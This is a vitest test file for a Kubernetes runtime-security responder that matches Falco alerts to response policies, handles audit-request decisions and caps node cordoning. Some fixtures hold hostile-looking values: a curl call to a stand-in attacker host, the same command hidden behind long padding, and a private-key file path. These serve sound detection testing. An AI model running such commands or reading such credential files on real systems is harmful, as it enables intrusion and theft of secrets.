import { describe, expect, it } from 'vitest';
import { ResponsePolicySpec } from '../../../src/api/responsepolicy.js';
import type { Alert } from '../../../src/intake/falco.js';
import {
  checkLimits,
  decideMatch,
  nodesAllowedByPercent,
  policyMatches,
  selectPolicy,
  type NamedPolicy,
} from '../../../src/intake/policy.js';

const alert = (over: Partial<Alert> = {}): Alert => ({
  rule: 'Terminal shell in container',
  priority: 'Notice',
  time: '2024-01-01T00:00:00Z',
  timeNs: 0n,
  source: 'syscall',
  tags: ['container', 'shell', 'mitre_execution'],
  fields: {
    'container.image.repository': 'docker.io/library/nginx',
    'proc.aname[2]': 'runc',
    'proc.tty': 34816,
    'x.null': null,
  },
  target: { namespace: 'shop', pod: 'web-1' },
  ...over,
});
const spec = (match: object = {}, rest: object = {}) => ResponsePolicySpec.parse({ match, ...rest });
const policy = (name: string, match: object = {}, rest: object = {}): NamedPolicy => ({
  name,
  spec: spec(match, rest),
});

describe('policyMatches', () => {
  it.each([
    ['an empty match', {}, {}, true],
    ['a rule glob', { rules: ['Terminal shell*'] }, {}, true],
    ['another rule', { rules: ['Write below*'] }, {}, false],
    ['priority at the threshold', { minimumPriority: 'Notice' }, {}, true],
    ['priority below the threshold', { minimumPriority: 'Warning' }, {}, false],
    ['Emergency above Critical', { minimumPriority: 'Critical' }, { priority: 'Emergency' }, true],
    ['Informational below Notice', { minimumPriority: 'Notice' }, { priority: 'Informational' }, false],
    ['all tags present', { tagsAllOf: ['container', 'shell'] }, {}, true],
    ['one tag of allOf missing', { tagsAllOf: ['container', 'network'] }, {}, false],
    ['one of anyOf present', { tagsAnyOf: ['network', 'shell'] }, {}, true],
    ['none of anyOf present', { tagsAnyOf: ['network', 'k8s'] }, {}, false],
    ['source listed', { sources: ['syscall', 'k8s_audit'] }, {}, true],
    ['source not listed', { sources: ['k8s_audit'] }, {}, false],
    ['namespace glob', { namespaces: ['sh*'] }, {}, true],
    ['namespace not included', { namespaces: ['prod-*'] }, {}, false],
    ['namespace excluded', { excludeNamespaces: ['shop'] }, {}, false],
    ['exclude wins over include', { namespaces: ['*'], excludeNamespaces: ['sho?'] }, {}, false],
    ['namespaces restricted, no target', { namespaces: ['*'] }, { target: undefined }, false],
    ['no restriction, no target', {}, { target: undefined }, true],
    [
      'output field glob',
      { outputFields: { 'container.image.repository': ['docker.io/library/*'] } },
      {},
      true,
    ],
    ['bracket output field', { outputFields: { 'proc.aname[2]': ['runc', 'containerd-shim'] } }, {}, true],
    ['number output field as text', { outputFields: { 'proc.tty': ['34816'] } }, {}, true],
    ['output field mismatch', { outputFields: { 'container.image.repository': ['quay.io/*'] } }, {}, false],
    ['null output field never matches', { outputFields: { 'x.null': ['*'] } }, {}, false],
    ['missing output field', { outputFields: { 'fd.name': ['*'] } }, {}, false],
    // `*` is any text: policies on command lines and file names fire (issue 10).
    ['* crosses / in a field', { outputFields: { 'container.image.repository': ['*'] } }, {}, true],
    [
      'cmdline with spaces and slashes',
      { outputFields: { 'proc.cmdline': ['*curl*'] } },
      { fields: { 'proc.cmdline': 'curl http://evil.example/x' } },
      true,
    ],
    [
      'fd.name path',
      { outputFields: { 'fd.name': ['/etc/*'] } },
      { fields: { 'fd.name': '/etc/ssl/private/key.pem' } },
      true,
    ],
    [
      'curl hidden past the cap still matches',
      { outputFields: { 'proc.cmdline': ['*curl*'] } },
      { fields: { 'proc.cmdline': `${'x'.repeat(70_000)} curl` } },
      true,
    ],
    ['audit target, policy not opted in', {}, { auditRequest: { responseCode: 200 } }, false],
    ['audit target, policy opted in', { auditTargets: true }, { auditRequest: { responseCode: 200 } }, true],
  ] as const)('%s', (_name, match, over, expected) => {
    expect(policyMatches(spec(match), alert(over as Partial<Alert>))).toBe(expected);
  });

  it('needs an exact entry for a protected namespace', () => {
    const a = alert({ target: { namespace: 'kube-system', pod: 'coredns-1' } });
    expect(policyMatches(spec({}), a, ['kube-system'])).toBe(false);
    expect(policyMatches(spec({ namespaces: ['kube-*'] }), a, ['kube-system'])).toBe(false);
    expect(policyMatches(spec({ namespaces: ['kube-system'] }), a, ['kube-system'])).toBe(true);
  });
});

describe('selectPolicy', () => {
  it('picks the highest priority, then the most specific, then the first name', () => {
    const broad = policy('a-broad');
    const narrow = policy('b-narrow', { rules: ['Terminal*'], sources: ['syscall'] });
    const urgent = policy('z-urgent', {}, { priority: 10 });
    expect(selectPolicy([broad, narrow, urgent], alert())?.name).toBe('z-urgent');
    expect(selectPolicy([broad, narrow], alert())?.name).toBe('b-narrow');
    expect(selectPolicy([narrow, broad], alert())?.name).toBe('b-narrow');
    const twin = policy('a-twin', { rules: ['Terminal*'], sources: ['syscall'] });
    expect(selectPolicy([narrow, twin], alert())?.name).toBe('a-twin');
    expect(selectPolicy([twin, narrow], alert())?.name).toBe('a-twin');
  });

  it('returns undefined when nothing matches', () => {
    expect(selectPolicy([policy('p', { rules: ['nope'] })], alert())).toBeUndefined();
  });
});

describe('decideMatch', () => {
  const shells = policy('shells', { rules: ['Terminal*'] });
  const audits = policy('audits', { rules: ['Disallowed K8s User'], auditTargets: true });
  const auditsNoOptIn = policy('audits', { rules: ['Disallowed K8s User'] });
  const auditAlert = (
    code: number | undefined,
    over: Partial<Alert> = {},
    request: { verb?: string; subresource?: string; dryRun?: boolean } = { verb: 'update' },
  ) =>
    alert({
      rule: 'Disallowed K8s User',
      source: 'k8s_audit',
      auditRequest: { responseCode: code, ...request },
      ...over,
    });
  it.each([
    ['a syscall alert', [shells], alert(), 'shells'],
    ['a syscall alert, no policy', [audits], alert(), 'unmatched'],
    ['a succeeded request, opted in', [audits], auditAlert(200), 'audits'],
    ['201 Created, opted in', [audits], auditAlert(201), 'audits'],
    ['101 exec upgrade, opted in', [audits], auditAlert(101), 'audits'],
    ['a succeeded request, not opted in', [auditsNoOptIn], auditAlert(200), 'audit-target-not-opted-in'],
    ['a denied request (403), opted in', [audits], auditAlert(403), 'audit-request-not-succeeded'],
    ['401 Unauthorized, opted in', [audits], auditAlert(401), 'audit-request-not-succeeded'],
    ['a 404, opted in', [audits], auditAlert(404), 'audit-request-not-succeeded'],
    ['a 500, opted in', [audits], auditAlert(500), 'audit-request-not-succeeded'],
    ['302, opted in', [audits], auditAlert(302), 'audit-request-not-succeeded'],
    ['no response code, opted in', [audits], auditAlert(undefined), 'audit-request-not-succeeded'],
    ['a denied request, not opted in', [auditsNoOptIn], auditAlert(403), 'audit-request-not-succeeded'],
    ['a succeeded request, no policy for the rule', [shells], auditAlert(200), 'unmatched'],
    [
      'a read (get 200) names a pod without touching it',
      [audits],
      auditAlert(200, {}, { verb: 'get' }),
      'audit-request-read-only',
    ],
    ['list 200', [audits], auditAlert(200, {}, { verb: 'list' }), 'audit-request-read-only'],
    ['watch 200', [audits], auditAlert(200, {}, { verb: 'watch' }), 'audit-request-read-only'],
    ['no verb, no subresource: fail closed', [audits], auditAlert(200, {}, {}), 'audit-request-read-only'],
    [
      'a verb the attacker made up',
      [audits],
      auditAlert(200, {}, { verb: 'escalate-me' }),
      'audit-request-read-only',
    ],
    [
      'a read of the status subresource',
      [audits],
      auditAlert(200, {}, { verb: 'get', subresource: 'status' }),
      'audit-request-read-only',
    ],
    ['create', [audits], auditAlert(201, {}, { verb: 'create' }), 'audits'],
    ['patch', [audits], auditAlert(200, {}, { verb: 'patch' }), 'audits'],
    ['delete', [audits], auditAlert(200, {}, { verb: 'delete' }), 'audits'],
    ['deletecollection', [audits], auditAlert(200, {}, { verb: 'deletecollection' }), 'audits'],
    [
      'exec over WebSocket (a GET upgrade)',
      [audits],
      auditAlert(101, {}, { verb: 'get', subresource: 'exec' }),
      'audits',
    ],
    ['exec, no verb in the output', [audits], auditAlert(101, {}, { subresource: 'exec' }), 'audits'],
    ['attach', [audits], auditAlert(101, {}, { verb: 'create', subresource: 'attach' }), 'audits'],
    ['portforward', [audits], auditAlert(101, {}, { verb: 'get', subresource: 'portforward' }), 'audits'],
    [
      'a GET through pods/proxy reaches the pod',
      [audits],
      auditAlert(200, {}, { verb: 'get', subresource: 'proxy' }),
      'audits',
    ],
    [
      'a server-side dry run changed nothing',
      [audits],
      auditAlert(200, {}, { verb: 'patch', dryRun: true }),
      'audit-request-read-only',
    ],
    [
      'a read, not opted in: read-only decides first',
      [auditsNoOptIn],
      auditAlert(200, {}, { verb: 'get' }),
      'audit-request-read-only',
    ],
    [
      'a denied change: not succeeded decides first',
      [audits],
      auditAlert(403, {}, { verb: 'get' }),
      'audit-request-not-succeeded',
    ],
    [
      'a succeeded request at a protected namespace',
      [audits],
      auditAlert(200, { target: { namespace: 'falco', pod: 'falco-abc12' } }),
      'protected-namespace',
    ],
    [
      'a protected namespace named exactly, opted in',
      [policy('falco-too', { auditTargets: true, namespaces: ['falco'] })],
      auditAlert(200, { target: { namespace: 'falco', pod: 'falco-abc12' } }),
      'falco-too',
    ],
    [
      'one policy opted in, a higher one not: the opted-in one decides',
      [audits, policy('loud', { rules: ['Disallowed*'] }, { priority: 100 })],
      auditAlert(200),
      'audits',
    ],
  ] as const)('%s', (_name, policies, a, expected) => {
    const d = decideMatch(policies, a, ['falco', 'falcosidekick']);
    expect(d.policy?.name ?? (d as { reason: string }).reason).toBe(expected);
    if (!d.policy) expect((d as { message: string }).message.length).toBeGreaterThan(20);
  });
});

describe('checkLimits', () => {
  const global = {
    maxOpenCases: 5,
    maxCordonedNodes: 3,
    maxCordonedNodesPercent: 100,
    protectedNamespaces: [],
  };
  const view = (over: object = {}) => ({
    total: 0,
    byPolicy: new Map<string, number>(),
    cordonedNodes: new Set<string>(),
    clusterNodes: 10,
    ...over,
  });
  const p = policy(
    'p',
    {},
    { limits: { maxOpenCases: 2, maxCordonedNodes: 1, maxCordonedNodesPercent: 100 } },
  );

  it('opens with the policy containment under every limit', () => {
    expect(checkLimits(p, 'n1', view(), global)).toMatchObject({
      action: 'open',
      containment: { cordonNode: true, taintNode: true },
    });
  });
  it('refuses past the global open-case limit', () => {
    expect(checkLimits(p, 'n1', view({ total: 5 }), global)).toMatchObject({
      action: 'refuse',
      reason: 'max-open-cases',
    });
  });
  it('refuses past the policy open-case limit', () => {
    expect(checkLimits(p, 'n1', view({ byPolicy: new Map([['p', 2]]) }), global)).toMatchObject({
      action: 'refuse',
      reason: 'policy-max-open-cases',
    });
  });
  it('degrades (no cordon, no taint) past the node limit', () => {
    const d = checkLimits(p, 'n2', view({ cordonedNodes: new Set(['n1']) }), global);
    expect(d).toMatchObject({
      action: 'degrade',
      reason: 'max-cordoned-nodes',
      containment: { cordonNode: false, taintNode: false, isolateNetwork: true },
    });
  });
  it('does not count a node that is already cordoned', () => {
    expect(checkLimits(p, 'n1', view({ cordonedNodes: new Set(['n1']) }), global).action).toBe('open');
  });
  it('applies the percentage of cluster nodes', () => {
    const pct = policy(
      'q',
      {},
      { limits: { maxOpenCases: 10, maxCordonedNodes: 10, maxCordonedNodesPercent: 20 } },
    );
    expect(
      checkLimits(pct, 'n3', view({ cordonedNodes: new Set(['n1']), clusterNodes: 10 }), global).action,
    ).toBe('open');
    expect(
      checkLimits(pct, 'n3', view({ cordonedNodes: new Set(['n1', 'n2']), clusterNodes: 10 }), global).action,
    ).toBe('degrade');
  });
  it('opens normally when the policy does not cordon or taint', () => {
    const soft = policy(
      's',
      {},
      { containment: { cordonNode: false, taintNode: false }, limits: { maxCordonedNodes: 0 } },
    );
    expect(checkLimits(soft, 'n9', view({ cordonedNodes: new Set(['n1', 'n2', 'n3']) }), global).action).toBe(
      'open',
    );
  });
  it.each([
    [0, 10, 0],
    [10, 10, 1],
    [10, 3, 1],
    [50, 10, 5],
    [20, undefined, 1],
  ])('%i%% of %s nodes allows %i', (pct, nodes, allowed) =>
    expect(nodesAllowedByPercent(pct, nodes)).toBe(allowed),
  );
});
